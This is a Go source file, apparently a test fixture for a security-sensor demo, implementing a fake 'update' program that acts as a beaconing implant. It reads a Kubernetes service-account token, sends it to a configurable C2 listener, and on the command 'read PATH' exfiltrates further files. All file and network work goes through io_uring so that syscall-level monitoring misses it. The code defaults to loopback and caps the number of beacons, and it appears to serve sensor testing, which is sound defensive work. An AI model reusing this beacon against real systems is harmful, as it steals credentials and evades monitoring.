// SPDX-License-Identifier: Apache-2.0

// Command update is the founding demo's malicious "update" (a stand-in for the Curing-based
// implant, see docs in tests/lib/README.md). Every interval it reads a token file and sends it,
// in a length-prefixed encoding/gob frame, to a C2 listener, then reads the C2's command frame
// back. All file and socket work goes through io_uring (OPENAT, READ, CLOSE, SOCKET, CONNECT,
// WRITE or SEND, READ or RECV): a syscall-level sensor sees only io_uring_setup and
// io_uring_enter. Like the original's C2 client it obeys one command, "read PATH": the file is
// read and sent at once the same way. Loopback only by default; bounded by -n.
package main

import (
	"flag"
	"fmt"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"time"

	"vigil.test/demo/internal/frame"
	"vigil.test/demo/internal/uring"
)

const maxToken = 64 << 10

func sockaddr(ap netip.AddrPort) (int, []byte) {
	port := ap.Port()
	if ap.Addr().Is4() {
		sa := make([]byte, 16) // struct sockaddr_in
		sa[0] = syscall.AF_INET
		sa[2], sa[3] = byte(port>>8), byte(port)
		a := ap.Addr().As4()
		copy(sa[4:], a[:])
		return syscall.AF_INET, sa
	}
	sa := make([]byte, 28) // struct sockaddr_in6
	sa[0] = syscall.AF_INET6
	sa[2], sa[3] = byte(port>>8), byte(port)
	a := ap.Addr().As16()
	copy(sa[8:], a[:])
	return syscall.AF_INET6, sa
}

func hostname() string {
	var u syscall.Utsname
	if syscall.Uname(&u) != nil {
		return ""
	}
	b := make([]byte, 0, len(u.Nodename))
	for _, c := range u.Nodename {
		if c == 0 {
			break
		}
		b = append(b, byte(c))
	}
	return string(b)
}

type beacon struct {
	ring    *uring.Ring
	token   string
	family  int
	sa      []byte
	useSend bool
	host    string
}

func (b *beacon) readFile(path string) ([]byte, error) {
	fd, err := b.ring.Openat(path, syscall.O_RDONLY|syscall.O_CLOEXEC)
	if err != nil {
		return nil, fmt.Errorf("open %s: %w", path, err)
	}
	defer b.ring.CloseFd(fd)
	buf := make([]byte, maxToken)
	n, err := b.ring.Read(fd, buf, 0)
	if err != nil {
		return nil, fmt.Errorf("read %s: %w", path, err)
	}
	return buf[:n], nil
}

// once does one exchange: the file at path out, a command back. Returns the command received.
func (b *beacon) once(seq uint32, path string) (string, int, error) {
	data, err := b.readFile(path)
	if err != nil {
		return "", 0, err
	}
	msg, err := frame.Encode(&frame.Frame{Seq: seq, Kind: "file", Host: b.host, Path: path,
		Data: data})
	if err != nil {
		return "", 0, err
	}
	fd, err := b.ring.Socket(b.family, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", 0, fmt.Errorf("socket: %w", err)
	}
	defer b.ring.CloseFd(fd)
	if err := b.ring.Connect(fd, b.sa); err != nil {
		return "", 0, fmt.Errorf("connect: %w", err)
	}
	for off := 0; off < len(msg); {
		var n int
		if b.useSend {
			n, err = b.ring.Send(fd, msg[off:])
		} else {
			n, err = b.ring.Write(fd, msg[off:])
		}
		if err != nil {
			return "", 0, fmt.Errorf("send: %w", err)
		}
		off += n
	}
	// The reply is one small frame; read until it decodes or the peer goes quiet.
	reply := make([]byte, 0, 4096)
	buf := make([]byte, 4096)
	for len(reply) < cap(reply) {
		n, err := b.ring.ReadTimeout(fd, buf, b.useSend, 2000)
		if err != nil || n == 0 {
			break
		}
		reply = append(reply, buf[:n]...)
		if f, err := frame.DecodeBytes(reply); err == nil {
			return string(f.Data), len(msg), nil
		}
	}
	return "", len(msg), nil
}

func main() {
	token := flag.String("token", "/var/run/secrets/kubernetes.io/serviceaccount/token",
		"token file to read")
	c2 := flag.String("c2", "127.0.0.1:8888", "C2 listener address (IP:PORT)")
	n := flag.Int("n", 3, "beacons to send (1..100000)")
	interval := flag.Duration("interval", time.Second, "time between beacons")
	op := flag.String("op", "write", "socket data op: write (IORING_OP_WRITE/READ) or send (SEND/RECV)")
	quiet := flag.Bool("q", false, "print nothing but errors")
	flag.Parse()

	ap, err := netip.ParseAddrPort(*c2)
	if err != nil || *n < 1 || *n > 100000 || (*op != "write" && *op != "send") {
		fmt.Fprintln(os.Stderr, "update: usage: update [-token PATH] [-c2 IP:PORT] [-n N] [-interval D] [-op write|send]")
		os.Exit(2)
	}
	ring, err := uring.New()
	if err != nil {
		fmt.Fprintf(os.Stderr, "update: %v\n", err)
		os.Exit(1)
	}
	defer ring.Close()
	b := &beacon{ring: ring, token: *token, useSend: *op == "send", host: hostname()}
	b.family, b.sa = sockaddr(ap)

	failures := 0
	for i := 1; i <= *n; i++ {
		start := time.Now()
		cmd, sent, err := b.once(uint32(i), b.token)
		if err != nil {
			failures++
			fmt.Fprintf(os.Stderr, "update: beacon %d: %v\n", i, err)
		} else if !*quiet {
			fmt.Printf("beacon %d: sent %d bytes, command %q\n", i, sent, cmd)
		}
		// The C2 may ask for one more file ("read PATH"): fetch and send it at once.
		if path := strings.TrimPrefix(cmd, "read "); err == nil && path != cmd && path != "" {
			if _, sent, err = b.once(uint32(i), path); err != nil {
				failures++
				fmt.Fprintf(os.Stderr, "update: command %q: %v\n", cmd, err)
			} else if !*quiet {
				fmt.Printf("command %q: sent %d bytes\n", cmd, sent)
			}
		}
		if i < *n {
			time.Sleep(*interval - time.Since(start))
		}
	}
	if failures > 0 {
		os.Exit(1)
	}
}
